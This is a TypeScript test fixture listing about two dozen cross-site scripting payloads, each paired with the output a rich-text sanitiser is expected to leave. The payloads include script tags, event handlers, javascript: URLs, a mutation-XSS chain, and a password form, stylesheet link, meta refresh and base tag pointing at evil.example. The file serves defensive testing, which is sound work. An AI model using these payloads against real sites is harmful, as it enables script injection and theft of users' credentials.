/**
 * Markup no rich text of ours may keep, whatever its toolbar allows: scripts, frames, forms,
 * styles and handlers. Each pair is the input and what must be left of it. The sanitiser's
 * tests for news posts and for the legal texts run it, and so does the test that writes rich
 * text through every route that takes it (every-way-in.api.test.ts).
 */
export const HOSTILE_MARKUP: [string, string][] = [
  ['<script>alert(1)</script>', ''],
  ['<img src=x onerror=alert(1)>', ''],
  ['<p onclick="alert(1)">x</p>', '<p>x</p>'],
  ['<a href="javascript:alert(1)">연락</a>', '연락'],
  ['<body onload=alert(1)>', ''],
  ['<svg onload=alert(1)><circle r="10"/></svg>', ''],
  ['<svg><script>alert(1)</script></svg>', ''],
  ['<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', ''],
  ['<iframe src="https://evil.example"></iframe>', ''],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
  ['<object data="javascript:alert(1)"></object>', ''],
  ['<embed src="https://evil.example/x.swf">', ''],
  ['<form action="https://evil.example"><input name="pw"><button>보내기</button></form>', '보내기'],
  ['<input onfocus=alert(1) autofocus>', ''],
  ['<textarea onfocus=alert(1) autofocus></textarea>', ''],
  ['<details open ontoggle=alert(1)>', ''],
  ['<video><source onerror=alert(1)></video>', ''],
  ['<audio src=x onerror=alert(1)>', ''],
  ['<style>body{background:url(javascript:alert(1))}</style>', ''],
  ['<link rel="stylesheet" href="https://evil.example/x.css">', ''],
  ['<meta http-equiv="refresh" content="0;url=https://evil.example">', ''],
  ['<base href="https://evil.example/">', ''],
  ['<p style="background-image:url(javascript:alert(1))">x</p>', '<p>x</p>'],
  ['<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>', '<p>cover</p>'],
  ['<span style="font-size:expression(alert(1))">x</span>', '<span>x</span>'],
];
